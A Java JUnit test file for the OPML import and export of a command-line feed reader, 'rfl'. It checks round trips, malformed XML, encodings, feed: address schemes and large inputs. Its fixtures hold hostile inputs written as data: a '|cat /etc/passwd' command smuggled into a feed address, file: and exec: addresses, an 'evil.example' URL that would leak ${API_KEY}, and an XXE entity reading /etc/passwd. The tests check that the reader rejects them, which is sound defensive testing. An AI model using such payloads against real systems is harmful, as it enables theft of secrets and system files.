package org.rfldigest.cli.feeds;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.rfldigest.cli.RflRun;
import org.rfldigest.model.Subscription;
import org.rfldigest.workspace.FeedsFile;

/** Row L14: feeds from and for other readers. */
class OpmlTest {

  private static final String ODD =
      """
      [[feed]]
      key = "odd"
      title = "A \\"title\\" <b>&amp;</b>\\twith\\nall \\U0001F980 and \\\\"
      address = "https://example.org/feed?a=1&b=${KEY}"
      kind = "list"
      every = "90m"
      trust = -1.5
      tags = ["a, b", "ü\\"", "x/y"]

      [[feed]]
      key = "near"
      address = "http://127.0.0.1:8080/feed"
      kind = "commits"
      every = "30s"
      private = true

      [[feed]]
      key = "weekly"
      address = "https://example.org/weekly"
      cron = "0 7 * * mon"
      """;

  @TempDir Path folder;
  @TempDir Path other;
  private RflRun run;

  @BeforeEach
  void aWorkspace() {
    run = RflRun.inWorkspace(folder);
  }

  @Test
  void theBundledFeedsSurviveTheRoundTrip() throws IOException {
    survives(Files.readString(Path.of("feeds/feeds.toml")));
  }

  @Test
  void whateverTheFileCanSaySurvivesTheRoundTrip() {
    survives(ODD);
  }

  @Test
  void watchedPagesAreNoFeedsForOtherReadersAndThatIsSaid() {
    run.write(
        "feeds/feeds.toml",
        feed("mine", "https://example.org/mine")
            + feed("page", "https://example.org/p")
            + "kind = \"page\"\n");

    var result = run.rfl("feeds", "export");

    assertThat(result.out()).contains("/mine").doesNotContain("/p\"");
    assertThat(result.err())
        .isEqualTo("rfl: 1 watched page is left out, because OPML knows only feeds.\n");
  }

  @Test
  void feedsOfAnotherReaderAreAppendedAndTheirFoldersBecomeTags() {
    run.write("feeds/feeds.toml", "# mine\n" + feed("mine", "https://example.org/mine"));
    run.write(
        "list.opml",
        opml(
            """
            <outline text="Kernel">
              <outline type="rss" text="LWN.net — news" xmlUrl="https://lwn.example/rss"/>
              <outline text="deeper"><outline title="Ünï" xmlurl="https://u.example/f"/></outline>
            </outline>
            <outline text="Mine again" xmlUrl="http://EXAMPLE.org/mine/"/>
            <outline text="Twice" xmlUrl="https://lwn.example/rss"/>
            <outline text="A command" xmlUrl="exec:~/bin/feed"/>
            <outline text="Another" xmlUrl="|cat /etc/passwd"/>
            <outline text="A file" xmlUrl="file:///etc/passwd"/>
            <outline text="Old" xmlUrl="gopher://example.org/1"/>
            <outline text="Thief" xmlUrl="https://evil.example/?k=${API_KEY}"/>
            """));

    var result = run.rfl("feeds", "import", "list.opml");

    assertThat(result.exit()).isZero();
    assertThat(result.err().lines().filter(line -> line.startsWith("left out: "))).hasSize(7);
    assertThat(result.err()).endsWith("rfl: 2 feeds added, 7 left out.\n");
    assertThat(run.read("feeds/feeds.toml")).startsWith("# mine\n").endsWith(result.out());
    var feeds = FeedsFile.read(folder.resolve("feeds/feeds.toml"));
    assertThat(feeds.problems()).isEmpty();
    assertThat(feeds.subscriptions())
        .extracting(feed -> feed.key() + " " + feed.tags())
        .containsExactly("mine []", "lwn-net-news [Kernel]", "uni [deeper]");
  }

  @Test
  void aKeyThatIsTakenGetsANumber() {
    run.write("feeds/feeds.toml", feed("lwn", "https://example.org/mine"));
    run.write("list.opml", opml("<outline text='LWN' xmlUrl='https://lwn.example/rss'/>"));

    assertThat(run.rfl("feeds", "import", "list.opml").out()).contains("key = \"lwn-2\"");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<outline text='R&D' xmlUrl='https://e.example/?a=1&b=2'/>",
        "<outline text='R&amp;D' xmlUrl='https://e.example/?a=1&b=2'><outline>",
        "<outline text='R&amp;D' text='x' xmlUrl='https://e.example/?a=1&amp;b=2'/>",
        "<outline text='R&amp;D&nbsp;' xmlUrl='https://e.example/?a=1&amp;b=2'/></outline>",
        "<outline text=R&amp;D xmlUrl='https://e.example/?a=1&amp;b=2'/><outline text='cut"
      })
  void anIllFormedFileIsMendedAndTheLineIsSaid(String outlines) {
    run.write("list.opml", opml("\n" + outlines));

    var result = run.rfl("feeds", "import", "list.opml");

    assertThat(result.err())
        .contains("'list.opml': it is no well-formed XML, as line ", "; it was mended")
        .endsWith("rfl: 1 feed added, 0 left out.\n");
    assertThat(feeds(folder))
        .extracting(Subscription::address)
        .containsExactly("https://e.example/?a=1&b=2");
  }

  @Test
  void lettersInAnotherEncodingThanTheListNamesAreReadAndThatIsSaid() throws IOException {
    var list = opml("<outline text='Köln' xmlUrl='https://e.example/1'/>");
    Files.write(
        folder.resolve("list.opml"),
        ("<?xml version='1.0' encoding='UTF-8'?>" + list).getBytes(StandardCharsets.ISO_8859_1));

    var result = run.rfl("feeds", "import", "list.opml");

    assertThat(result.out()).contains("title = \"Köln\"");
    assertThat(result.err()).contains("not all of its letters are in the encoding that it names");
  }

  @Test
  void aListMayComeFromTheStandardInput() {
    var list = opml("<outline text='One' xmlUrl='https://e.example/1'/>");

    assertThat(run.rflReading(list, "feeds", "import", "-").err())
        .isEqualTo("rfl: 1 feed added, 0 left out.\n");
  }

  @ParameterizedTest
  @CsvSource({
    "feed:https://e.example/1,https://e.example/1",
    "feed://e.example/1,http://e.example/1",
    "FEED:http://e.example/1,http://e.example/1",
    "feeds://e.example/1,https://e.example/1",
    "feed://https://e.example/1,https://e.example/1",
    "feed:e.example/1,"
  })
  void anAddressForFeedReadersIsTakenAsTheOneBehindIt(String written, String behind) {
    run.write("list.opml", opml("<outline text='One' xmlUrl='" + written + "'/>"));
    run.rfl("feeds", "import", "list.opml");
    var imported = FeedsFile.read("feeds.toml", run.read("feeds/feeds.toml")).subscriptions();
    assertThat(imported)
        .extracting(Subscription::address)
        .isEqualTo(behind == null ? List.of() : List.of(behind));

    var byHand = FeedsFile.read("feeds.toml", feed("one", written)).subscriptions();
    assertThat(byHand)
        .extracting(Subscription::address)
        .isEqualTo(behind == null ? List.of() : List.of(behind));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "no xml",
        "<opml><!DOCTYPE x><body><outline text='a & b' xmlUrl='https://e.org/1'/>",
        "<rss><channel/></rss>",
        "<!DOCTYPE opml [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><opml><body/></opml>"
      })
  void aBadFileChangesNothing(String file) {
    run.write("feeds/feeds.toml", ODD).write("bad.opml", file);

    var result = run.rfl("feeds", "import", "bad.opml");

    assertThat(result.exit()).isEqualTo(2);
    assertThat(result.err()).contains("nothing was changed");
    assertThat(run.read("feeds/feeds.toml")).isEqualTo(ODD);
  }

  @Test
  void tenThousandOutlinesAreTaken() {
    var many = new StringBuilder();
    for (var i = 0; i < 10_000; i++) {
      many.append("<outline text='Feed %1$d' xmlUrl='https://e.example/%1$d'/>".formatted(i));
    }
    run.write("list.opml", opml(many.toString()));

    assertThat(run.rfl("feeds", "import", "list.opml").err())
        .endsWith("rfl: 10000 feeds added, 0 left out.\n");
    assertThat(feeds(folder)).hasSize(10_000);
  }

  @Test
  void aFileNestedWithoutEndIsRefused() {
    run.write("deep.opml", "<opml>" + "<outline text='a'>".repeat(100_000));

    assertThat(run.rfl("feeds", "import", "deep.opml").err()).contains("nested deeper than");
  }

  private void survives(String toml) {
    run.write("feeds/feeds.toml", toml);
    var opml = run.rfl("feeds", "export").out();
    var fresh = RflRun.inWorkspace(other).write("list.opml", opml);

    var result = fresh.rfl("feeds", "import", "list.opml", "--private");

    assertThat(result.err()).endsWith(" 0 left out.\n");
    assertThat(feeds(other)).isNotEmpty().isEqualTo(feeds(folder));
    assertThat(fresh.rfl("feeds", "export").out()).isEqualTo(opml);
  }

  /** All but watched pages: OPML knows none. */
  private static List<Subscription> feeds(Path workspace) {
    return FeedsFile.read(workspace.resolve("feeds/feeds.toml")).subscriptions().stream()
        .filter(subscription -> subscription.kind() != Subscription.Kind.PAGE)
        .toList();
  }

  private static String feed(String key, String address) {
    return "[[feed]]\nkey = \"%s\"\naddress = \"%s\"\n".formatted(key, address);
  }

  private static String opml(String outlines) {
    return "<opml version=\"1.0\"><head/><body>" + outlines + "</body></opml>";
  }
}
